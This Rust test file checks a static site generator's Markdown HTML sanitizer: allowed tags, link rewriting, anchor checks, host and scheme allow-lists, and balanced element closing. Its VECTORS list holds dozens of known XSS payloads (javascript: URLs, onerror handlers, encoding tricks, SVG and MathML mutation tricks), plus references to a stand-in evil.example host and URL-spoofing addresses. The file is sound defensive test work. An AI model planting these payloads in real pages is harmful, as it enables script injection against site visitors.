//! HTML in pages: what is harmless works, nothing else gets through, and whatever was written, elements close in order.

use proptest::prelude::*;
use proptest::sample::select;
use roadbook::html::{Token, tokens, unescaped};

use crate::fixture::{built, main_of, report};

fn project(markdown: &str) -> String {
    format!(
        "//- content/a/page.md\n+++\ntitle = \"Page\"\nsummary = \"A page.\"\nowner = \"role:x\"\n+++\n\n{markdown}\n\
         //- content/a/other.md\n# Other page\n\nText.\n\n<a id=\"there\"></a>There.\n\n<h2 id=\"Up\">Up</h2>\n\n<td id=\"cell\">\n\
         //- content/a/p.png\nx\n//- content/roles.toml\n[[role]]\nid = \"x\"\ntitle = \"X\"\n"
    )
}

/// What a page makes of its text.
fn html(markdown: &str) -> String {
    let main = main_of(&built(&project(markdown)), "a/page/index.html");
    let Some((_, prose)) = main.split_once("<div class=\"prose\">\n") else { return String::new() };
    let (prose, _) = prose.split_once("</div>\n<div class=\"after\">").unwrap();
    prose.trim().strip_suffix("</div>").unwrap().trim().to_owned()
}

#[test]
fn harmless_html_works() {
    for (markdown, expected) in [
        ("Press <kbd>Ctrl</kbd>.", "<p>Press <kbd>Ctrl</kbd>.</p>"),
        ("H<SUB>2</SUB>O<br/>x", "<p>H<sub>2</sub>O<br>\nx</p>"),
        ("<a href=\"other.md\">Other</a>", "<p><a href=\"../../a/other/\">Other</a></p>"),
        (
            "x <a href=other.md#there title='A &amp; b'>y</a>",
            "<p>x <a href=\"../../a/other/#there\" title=\"A &amp; b\">y</a></p>",
        ),
        (
            "<a name=\"spot\"></a>Here, [there](#spot)",
            "<p><span id=\"spot\"></span>Here, <a href=\"#spot\">there</a></p>",
        ),
        (
            "<img src=\"p.png\" width=20 height=\"10px\" alt=\"P\">",
            "<p><img src=\"../../a/p.png\" alt=\"P\" width=\"20\" height=\"10\" loading=\"lazy\"></p>",
        ),
        ("<p align=\"Center\" style=\"x\" onclick=\"y\">A\n<b>b</p>", "<p class=\"center\">A\n<b>b</b></p>"),
        ("<center>\n\n*a*\n\n</center>", "<div class=\"center\">\n<p><em>a</em></p>\n</div>"),
        (
            "<details>\n<summary>S <b>x</b></summary>\n\n- a\n\n</details>\n\nb",
            "<details>\n<summary>S <b>x</b></summary>\n<ul>\n<li>a</li>\n</ul>\n</details>\n<p>b</p>",
        ),
        ("<details>\n\na\n\n</details>", "<details><summary>Details</summary>\n<p>a</p>\n</details>"),
        (
            "- a\n\n  <details><summary>s</summary>\n\n  b",
            "<ul>\n<li>\n<p>a</p>\n<details><summary>s</summary>\n<p>b</p>\n</details></li>\n</ul>",
        ),
        ("<ul><li>a<li>b <ol><li>c</ul>", "<ul><li>a</li><li>b <ol><li>c</li></ol></li></ul>"),
        (
            "| a |\n|---|\n| x<br>y <ul><li>z</li></ul> |",
            "<div class=\"table\" role=\"region\" tabindex=\"0\" aria-label=\"Table 1\"><table>\n<colgroup><col class=\"w4\"></colgroup>\n<thead>\n<tr><th scope=\"col\">a</th></tr>\n</thead>\n<tbody>\n<tr><td>x<br>\ny <ul><li>z</li></ul></td></tr>\n</tbody>\n</table></div>",
        ),
        (
            "<table><tr><td>a<td align=right colspan=2 bgcolor=red>b</table>",
            "<div class=\"table\" role=\"region\" tabindex=\"0\" aria-label=\"Table 1\"><table><tr><td>a</td><td colspan=\"2\" class=\"right\">b</td></tr></table></div>",
        ),
        ("<section id=x><header>a</header></section>", "<div id=\"x\"><div>a</div></div>"),
        ("a <div>b</div> c", "<p>a b c</p>"),
        ("- <b><pre>*<h3>a*", "<ul>\n<li><b><pre tabindex=\"0\"><em>a</em></pre></b></li>\n</ul>"),
        ("*a <i>b* c</i>", "<p><em>a <i>b</i></em> c</p>"),
        ("**a <b>b</b>**", "<p><strong>a <b>b</b></strong></p>"),
        (
            "<tt>a</tt> <strike>b</strike> <font color=red>c</font>",
            "<p><code>a</code> <s>b</s> <span>c</span></p>",
        ),
        ("</div></main></p>x", "<p>x</p>"),
        ("[a <a href=\"other.md\">b</a>](p.png)", "<p><a href=\"../../a/p.png\">a b</a></p>"),
        (
            "<a href=\"other.md\"><img src=\"p.png\" alt=\"P\"></a>",
            "<p><a href=\"../../a/other/\"><img src=\"../../a/p.png\" alt=\"P\" loading=\"lazy\"></a></p>",
        ),
        ("<a href=\"other.md\">[b](p.png)</a>", "<p><a href=\"../../a/other/\">b</a></p>"),
        ("![a <b>b</b>](p.png)", "<p><img src=\"../../a/p.png\" alt=\"a b\" loading=\"lazy\"></p>"),
        ("<!-- c -->a<!-- d -->", "<p>a</p>"),
        ("a <!-- d --> b", "<p>a  b</p>"),
        (
            "- [ ] <b>Do</b> <div>it</div> {#x}",
            "<ul>\n<li class=\"task\" id=\"x\"><label class=\"box\"><input type=\"checkbox\" data-item=\"page:a/page#x\"><span><b>Do</b> it</span></label></li>\n</ul>",
        ),
        (
            "<pre>a\n  <b>b</b> https://example.org</pre>",
            "<pre tabindex=\"0\">a\n  <b>b</b> https://example.org</pre>",
        ),
        ("<dl><dt>a<dd>b</dl>", "<dl><dt>a</dt><dd>b</dd></dl>"),
        ("`<b>` \\<b> &lt;b>", "<p><code>&lt;b&gt;</code> &lt;b&gt; &lt;b&gt;</p>"),
    ] {
        let found = html(markdown).replace("\n\n", "\n");
        assert_eq!(found, expected, "{markdown}");
    }
}

#[test]
fn headings_in_html_are_headings() {
    let found = html(
        "<h2 align=center id=\"Mine\">A <i>b</i></h2>\n\n[to it](#Mine)\n\n<div>\n\n## In a box\n\n</div>",
    );
    assert!(found.contains("<h2 id=\"Mine\">A <i>b</i></h2><a class=\"anchor\" href=\"#Mine\""), "{found}");
    assert!(found.contains("<p><a href=\"#Mine\">to it</a></p>"), "{found}");
    assert!(found.contains("<div>\n<div class=\"heading\"><h2 id=\"in-a-box\">In a box</h2>"), "{found}");
}

#[test]
fn addresses_in_html_are_checked_and_anchors_known() {
    let good =
        "<a href=\"other.md#there\">a</a> [b](other.md#Up) <a href=\"#here\">c</a> <b id=\"here\">d</b>";
    assert!(!report(&project(good)).contains("REF"), "{}", report(&project(good)));
    for (markdown, code) in [
        ("<a href=\"gone.md\">gone</a>", "REF002"),
        ("<img src=\"gone.png\" alt=\"gone\">", "REF002"),
        ("<a href=\"other.md#nowhere\">nowhere</a>", "REF003"),
        ("<a href=\"#nowhere\">nowhere</a>", "REF003"),
        ("<img src=\"p.png\">", "ACC001"),
        ("<img src=\"https://example.org/x.png\" alt=\"x\">", "MKD005"),
        ("<a href=\"javascript:alert(1)\">run</a>", "MKD005"),
        ("<blink>x</blink>", "MKD001"),
        ("<script src=\"x\"></script>", "MKD001"),
    ] {
        let found = report(&project(markdown));
        assert!(found.contains(&format!("[{code}] content/a/page.md:7:")), "{markdown}: {found}");
    }
}

/// With `unsafe_html` all is passed on, and the addresses in it lead where their files are.
#[test]
fn addresses_in_html_that_is_passed_on_are_put_right() {
    let settings = "//- site.toml\ntitle = \"T\"\n[markdown]\nunsafe_html = true\n";
    for (markdown, expected) in [
        ("<img class=x src=\"p.png\">", "<img class=x src=\"../../a/p.png\">"),
        (
            "<video poster = p.png src='p.png'></video>",
            "<video poster = ../../a/p.png src='../../a/p.png'></video>",
        ),
        (
            "<a data-x=\"href=1\" href=\"other.md#there\" >x</a>",
            "<a data-x=\"href=1\" href=\"../../a/other/#there\" >x</a>",
        ),
        (
            "<img srcset=\"p.png 1x, gone.png 2x,\n p.png#x 3x\" alt=x>",
            "<img srcset=\"../../a/p.png 1x, gone.png 2x,\n ../../a/p.png#x 3x\" alt=x>",
        ),
        ("<source srcset=p.png>", "<source srcset=../../a/p.png>"),
        ("<form action=\"other.md\"></form>", "<form action=\"../../a/other/\"></form>"),
        ("<q cite='other.md#there'>x</q>", "<q cite='../../a/other/#there'>x</q>"),
        ("<a href=https://example.org/?a&amp;b>x</a>", "<a href=https://example.org/?a&amp;b>x</a>"),
        (
            "<script>if (a < b) { x = \"<a href='gone.md'>\" }</script>",
            "<script>if (a < b) { x = \"<a href='gone.md'>\" }</script>",
        ),
    ] {
        let main = main_of(&built(&format!("{settings}{}", project(markdown))), "a/page/index.html");
        assert!(main.contains(expected), "{markdown}: {main}");
    }
    let broken = "<img src=\"gone.png\" srcset=\"p.png, gone.jpg 2x\"> <b id=\"here\">x</b> [x](#here)";
    let found = report(&format!("{settings}{}", project(broken)));
    assert_eq!((found.matches("REF002").count(), found.matches("REF003").count()), (2, 0), "{found}");
}

const TAGS: [&str; 77] = [
    "a",
    "abbr",
    "address",
    "b",
    "bdi",
    "bdo",
    "blockquote",
    "br",
    "caption",
    "cite",
    "code",
    "dd",
    "del",
    "details",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "img",
    "input",
    "ins",
    "kbd",
    "label",
    "li",
    "mark",
    "ol",
    "p",
    "pre",
    "q",
    "rp",
    "rt",
    "ruby",
    "s",
    "samp",
    "section",
    "small",
    "span",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "time",
    "tr",
    "u",
    "ul",
    "var",
    "wbr",
    "math",
    "mi",
    "mn",
    "mo",
    "mrow",
    "button",
    "nav",
    "header",
    "main",
    "footer",
    "aside",
    "article",
    "template",
];
const VOID: [&str; 6] = ["br", "hr", "img", "input", "wbr", "col"];
const ATTRIBUTES: [&str; 30] = [
    "abbr",
    "alt",
    "aria-label",
    "checked",
    "class",
    "colspan",
    "data-gate",
    "data-item",
    "data-optional",
    "datetime",
    "dir",
    "height",
    "href",
    "id",
    "lang",
    "loading",
    "open",
    "reversed",
    "role",
    "rowspan",
    "scope",
    "src",
    "start",
    "tabindex",
    "title",
    "type",
    "value",
    "width",
    "data-community",
    "data-state",
];

/// What is wrong with the HTML of a text: an element, attribute or address that is not on the list, or one that is not
/// closed in its place.
fn fault(html: &str) -> Option<String> {
    let mut open = Vec::new();
    for token in tokens(html) {
        match token {
            Token::Open(tag) => {
                // a table of Markdown says how wide its columns are
                if !TAGS[..64].contains(&tag.name) && !matches!(tag.name, "colgroup" | "col") {
                    return Some(format!("<{}>", tag.name));
                }
                for attribute in tag.attributes() {
                    if !ATTRIBUTES.contains(&attribute.name) {
                        return Some(format!("<{} {}>", tag.name, attribute.name));
                    }
                    let value = unescaped(attribute.value.unwrap_or_default());
                    let is_address = matches!(attribute.name, "href" | "src");
                    let inside = ["./", "../", "#"].iter().any(|start| value.starts_with(start));
                    let outside = ["http:", "https:", "mailto:", "tel:", "//"].iter();
                    let outside = attribute.name == "href"
                        && outside.clone().any(|start| value.to_lowercase().starts_with(start));
                    if is_address && !inside && !outside {
                        return Some(format!("{}={value:?}", attribute.name));
                    }
                }
                if !VOID.contains(&tag.name) {
                    open.push(tag.name);
                }
            }
            Token::Close(name) if open.last() == Some(&name) => drop(open.pop()),
            Token::Close(name) => return Some(format!("</{name}> where {open:?} are open")),
            Token::Text(_) => {}
        }
    }
    (!open.is_empty()).then(|| format!("{open:?} are not closed"))
}

const VECTORS: [&str; 58] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\u{0}>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\u{c}=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<img src=`javascript:alert(1)`>",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<img srcset=\"https://evil.example/x 2x\" src=p.png>",
    "<img src=//evil.example/x.png>",
    "<img src=\"/\\evil.example/x.png\">",
    "<img src=\"https:evil.example\">",
    "<img dynsrc=\"javascript:alert(1)\" lowsrc=\"javascript:alert(1)\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"&#1;javascript:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=jAvAsCrIpT:alert(1)>x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=\"feed:javascript:alert(1)\">x</a>",
    "<a href=x href=javascript:alert(1)>x</a>",
    "<a href=\"https://a.example\" onmouseover=alert(1) ping=//evil.example>x</a>",
    "<a href='x\" onclick=\"alert(1)'>x</a>",
    "<a title='\"><script>alert(1)</script>'>x</a>",
    "<b title=\"'\" onclick='alert(1)'>x</b>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=\"data:text/html,x\"></object><embed src=x>",
    "<svg onload=alert(1)><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<base href=\"//evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style=\"background:url(javascript:alert(1))\" class=\"top\">x</div>",
    "<table background=\"//evil.example/x.png\"><td background=x>y</table>",
    "<form action=//evil.example><input type=image src=x onerror=alert(1)><button formaction=javascript:alert(1)>x</button></form>",
    "<details open ontoggle=alert(1)>x",
    "<body onload=alert(1)><html manifest=x><head><title>x</title>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img src=x onerror=alert(1)></textarea><xmp><b></xmp><plaintext>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY y \"z\">]>",
    "<video><source onerror=\"alert(1)\"></video><audio src=x onerror=alert(1)>",
];

#[test]
fn no_way_leads_to_a_script_a_style_or_another_host() {
    for vector in VECTORS {
        for around in [
            "{}",
            "text {} text",
            "- {}",
            "> {}",
            "| a |\n|---|\n| {} |",
            "# {}",
            "[{}](other.md)",
            "<div>\n\n{}\n\n</div>",
            "*{}*",
        ] {
            let text = around.replace("{}", vector);
            let found = html(&text);
            assert_eq!(fault(&found), None, "{text}\n{found}");
        }
    }
}

#[test]
fn the_judge_of_vectors_finds_faults() {
    for html in [
        "<script>",
        "<p onclick=x></p>",
        "<a href=javascript:x></a>",
        "<img src=//x>",
        "<p>",
        "<b><i></b></i>",
        "</p>",
    ] {
        assert!(fault(html).is_some(), "{html}");
    }
}

#[test]
fn depth_and_length_do_no_harm() {
    for html_text in [
        "<div>".repeat(10_000),
        "<b>".repeat(10_000),
        "</b>".repeat(10_000),
        "<ul><li>".repeat(5_000),
        "<a href=x>".repeat(3_000),
        format!("<img src=\"{}", "x".repeat(100_000)),
    ] {
        let found = html(&html_text);
        assert_eq!(fault(&found), None);
    }
}

const SOUP: [&str; 46] = [
    "<b>",
    "</b>",
    "<i>",
    "</i>",
    "<a href=\"other.md\">",
    "</a>",
    "<p>",
    "</p>",
    "<div>",
    "</div>",
    "<ul>",
    "<li>",
    "</li>",
    "</ul>",
    "<table>",
    "<tr>",
    "<td>",
    "</td>",
    "</tr>",
    "</table>",
    "<details>",
    "<summary>",
    "</summary>",
    "</details>",
    "<h3>",
    "</h3>",
    "<br>",
    "<img src=p.png>",
    "<pre>",
    "</pre>",
    "<dl><dt>",
    "<script>",
    "*",
    "**",
    "`",
    "\n",
    "\n\n",
    "\n- ",
    "\n\n  ",
    "\n> ",
    "\n## ",
    "[x](other.md)",
    "\n| a | b |\n|--|--|\n| ",
    " word ",
    "\n\n::: steps\n\n",
    "\n\n:::\n\n",
];

proptest! {
    #![proptest_config(ProptestConfig { cases: 100, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn whatever_is_written_elements_close_in_order(soup in prop::collection::vec(select(&SOUP[..]), 1..24)) {
        let text: String = soup.concat();
        let found = html(&text);
        prop_assert_eq!(fault(&found), None, "{}\n{}", text, found);
    }
}

#[test]
fn pictures_have_their_size_so_that_nothing_jumps() {
    for (markdown, expected) in [
        ("![x](sized.png)", "alt=\"x\" width=\"640\" height=\"480\" loading"),
        ("<img src=\"sized.png\" alt=\"x\" width=\"320\">", "alt=\"x\" width=\"320\" height=\"240\" loading"),
        ("<img src=\"sized.png\" alt=\"x\" height=\"48\">", "alt=\"x\" width=\"64\" height=\"48\" loading"),
        (
            "<img src=\"sized.png\" alt=\"x\" height=\"1\" width=\"2\">",
            "alt=\"x\" width=\"2\" height=\"1\" loading",
        ),
        ("![x](p.png)", "alt=\"x\" loading"),
    ] {
        let main = main_of(
            &built(&format!("{}//- content/a/sized.png\nx\n", project(markdown))),
            "a/page/index.html",
        );
        assert!(main.contains(expected), "{markdown}: {main}");
    }
}

#[test]
fn hosts_and_schemes_are_allowed_by_name_only() {
    let settings = "//- site.toml\ntitle = \"T\"\n[markdown]\nimage_hosts = [\"img.example.org\"]\nlink_schemes = [\"msteams\"]\n";
    let page =
        |markdown: &str| main_of(&built(&format!("{settings}{}", project(markdown))), "a/page/index.html");
    let shown = "<img src=\"https://IMG.example.org/x.png\" alt=\"x\" referrerpolicy=\"no-referrer\" loading=\"lazy\">";
    assert!(page("![x](https://IMG.example.org/x.png)").contains(shown));
    assert!(page("[chat](msteams:/l/chat)").contains("<a href=\"msteams:/l/chat\">chat</a>"));
    for address in [
        "https://evil.example/img.example.org/x.png",
        "https://img.example.org.evil.example/x.png",
        "https://img.example.org@evil.example/x.png",
        "https://evil.example\\\\@img.example.org/x.png",
        "//evil.example/x.png",
    ] {
        assert!(!page(&format!("![x]({address})")).contains("<img"), "{address}");
    }
    assert!(!page("[x](slack://y) [z](javascript:alert)").contains("href=\"slack"));
    for wrong in [
        "link_schemes = [\"javascript\"]",
        "link_schemes = [\"a b\"]",
        "image_hosts = [\"https://x.example/\"]",
        "image_hosts = [\"*.example.org\"]",
    ] {
        let found = report(&format!("//- site.toml\ntitle = \"T\"\n[markdown]\n{wrong}\n"));
        assert!(found.contains("error[SRC004] site.toml:3:1"), "{wrong}: {found}");
    }
}
